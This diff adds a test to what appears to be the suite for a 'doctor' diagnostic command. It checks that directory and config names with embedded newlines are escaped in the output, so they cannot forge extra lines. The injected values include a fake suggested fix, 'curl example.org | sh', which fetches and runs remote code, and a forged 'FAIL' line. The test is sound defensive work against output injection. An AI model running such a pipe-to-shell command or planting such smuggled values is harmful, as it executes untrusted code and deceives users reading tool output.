@@ -274,6 +274,15 @@ describe("on the host itself", () => {
     });
   });
 
+  test("a name in the media, and one of a file, stays on its line", async () => {
+    mkdirSync(at("media/a\n         fix:     curl example.org | sh"), { mode: 0o700 });
+    const { out } = await doctorHere();
+    expect(out).toContain("a\\x0a         fix:     curl example.org | sh: others lack read and execute\n");
+    const { out: other } = await doctorHere("--config", at("a\nFAIL   b"));
+    expect(other).toContain("a\\nFAIL   b");
+    for (const text of [out, other]) expect(text).not.toMatch(/^ +fix: +curl|^FAIL +b/m);
+  });
+
   test("avatars have a row of their own", async () => {
     mkdirSync(at("media/avatars"));
     writeFileSync(at("media/avatars/b.png"), "x", { mode: 0o600 });
